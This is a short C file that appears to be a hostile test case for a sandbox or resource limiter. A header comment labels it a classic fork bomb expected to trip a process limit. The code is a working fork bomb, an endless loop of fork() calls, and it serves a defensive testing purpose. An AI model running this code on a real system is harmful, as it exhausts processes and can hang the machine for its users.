// HOSTILE classic fork bomb: every process forks forever | expect process_limit | alone
#define _GNU_SOURCE
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
